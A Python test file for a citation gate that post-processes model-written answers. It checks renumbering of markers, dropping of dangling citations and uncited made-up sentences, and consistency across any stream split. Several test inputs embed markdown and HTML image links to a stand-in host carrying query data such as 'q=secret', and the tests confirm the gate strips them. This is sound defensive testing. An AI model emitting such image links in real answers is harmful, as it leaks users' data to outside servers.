"""Citation markers through the gate: renumbered, dangling ones dropped, images gone, any split."""

from __future__ import annotations

from datetime import timedelta

import pytest

from answer_helpers import NOW, make_post
from townsquare.answer.citations import finalize
from townsquare.answer.prompt import PromptPost
from townsquare.answer.verify import Gate

POSTS = [
    PromptPost(1, make_post("1", "bob", "Main street bridge reopened this afternoon",
                            timedelta(hours=1)), False),
    PromptPost(2, make_post("2", "alice", "The bridge on Main St is closed again",
                            timedelta(hours=2)), False),
    PromptPost(3, make_post("3", "carol", "Bridge closed after the flood, version 2.5 of the "
                            "plan is out", timedelta(hours=3)), False),
    PromptPost(4, make_post("4", "dave", "Flood waters rising near the river",
                            timedelta(hours=4)), False),
]


def run(chunks: list[str]) -> tuple[str, Gate]:
    gate = Gate(POSTS, NOW)
    shown = "".join(gate.feed(c) for c in chunks) + gate.finish()
    assert shown == gate.text, "what was streamed must be the final text"
    return shown, gate


CASES = [
    ("The bridge is closed [3]. It reopened [1].",
     "The bridge is closed [1]. It reopened [2]."),
    ("Both [3, 2] say the bridge is closed.", "Both say the bridge is closed [1][2]."),
    ("The bridge is closed [2-3].", "The bridge is closed [1][2]."),
    ("The bridge closed after the flood [post 3].", "The bridge closed after the flood [1]."),
    ("The bridge reopened [9]. Flood waters rising [7, 8].",
     "The bridge reopened [1]. Flood waters rising [2]."),
    ("The bridge is closed again [9, 2].", "The bridge is closed again [1]."),
    ("Version 2.5 of the plan is out [3].", "Version 2.5 of the plan is out [1]."),
    ("The bridge is closed ![pic](https://evil.example/x?q=secret) [2].",
     "The bridge is closed [1]."),
    ("Flood waters rising <img src='https://evil.example/p.gif?d=1'> [4].",
     "Flood waters rising [1]."),
    ("The bridge is closed [2]. Truncated ![x](https://evil.example/",
     "The bridge is closed [1]."),
    ("- The bridge reopened [1]\n- **Flood waters** rising [4]\n",
     "The bridge reopened [1]. Flood waters rising [2]."),
]


@pytest.mark.parametrize(("model_text", "shown"), CASES)
def test_every_split_into_chunks_gives_the_same_text(model_text: str, shown: str) -> None:
    assert run([model_text])[0] == shown
    for i in range(len(model_text) + 1):
        assert run([model_text[:i], model_text[i:]])[0] == shown, i
    assert run(list(model_text))[0] == shown


def test_mapping_is_in_order_of_first_citation() -> None:
    _text, gate = run(["Flood waters rising [4]. The bridge is closed again [2]. "
                       "Flood waters are rising [4]."])
    assert gate.mapping == {4: 1, 2: 2}


def test_finalize_lists_cited_posts_in_reader_order() -> None:
    _text, gate = run(["The bridge is closed again [2], and closed after the flood [3]."])
    cites = finalize(gate, [p for p in POSTS])
    assert [(c.n, c.id, c.cited) for c in cites] == [(1, "jsonl:2", True), (2, "jsonl:3", True)]
    assert cites[0].text.startswith("The bridge on Main") and cites[0].url == (
        "https://example.org/2")
    assert cites[0].created_at.endswith("Z")


def test_an_answer_the_gate_empties_still_returns_the_posts_used() -> None:
    _text, gate = run(["A tiny model answer without markers."])
    cites = finalize(gate, POSTS)
    assert [(c.n, c.cited) for c in cites] == [(1, False), (2, False), (3, False), (4, False)]


ATTRIB_CASES = [
    # A restated post gets its marker before the full stop; made-up sentences are dropped.
    ("The bridge reopened this afternoon. The mayor resigned.",
     "The bridge reopened this afternoon [1]."),
    ("It was closed after the flood! Now the bridge reopened [1].",
     "It was closed after the flood [1]! Now the bridge reopened [2]."),
]


@pytest.mark.parametrize(("model_text", "shown"), ATTRIB_CASES)
def test_uncited_sentences_that_restate_a_post_are_cited(model_text: str, shown: str) -> None:
    assert run([model_text])[0] == shown
    for i in range(len(model_text) + 1):
        assert run([model_text[:i], model_text[i:]])[0] == shown, i
    _text, gate = run([model_text])
    assert gate.stats.recited >= 1
